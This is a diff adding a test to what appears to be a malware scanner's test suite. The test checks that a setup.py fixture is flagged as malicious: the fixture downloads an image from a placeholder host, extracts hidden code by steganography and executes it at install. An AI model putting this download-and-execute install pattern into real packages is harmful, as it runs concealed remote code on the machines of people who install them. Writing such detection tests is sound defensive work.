@@ -437,3 +437,20 @@ test('a shell command at install that splices host identity into a request is ex
   });
   assert.notEqual(platform.verdict, 'malicious', platform.reason);
 });
+
+test('code hidden in a downloaded image and executed (steganography) is download-and-execute', async () => {
+  const { out, score } = await scan({
+    'p-1/setup.py': [
+      'import os, requests',
+      'from judyb import lsb',
+      "p = f'{os.getenv(\"TEMP\")}\\\\img.png'",
+      "r = requests.get('https://images.example.invalid/a.png')",
+      "with open(p, 'wb') as f:",
+      '    f.write(r.content)',
+      'exec(lsb.reveal(p))',
+      "from setuptools import setup\nsetup(name='p')",
+    ].join('\n'),
+  });
+  assert.equal(score.verdict, 'malicious', score.reason);
+  assert.ok(out.findings.some((f) => f.ruleId === 'py/download-execute' && f.message.includes('images.example.invalid')));
+});
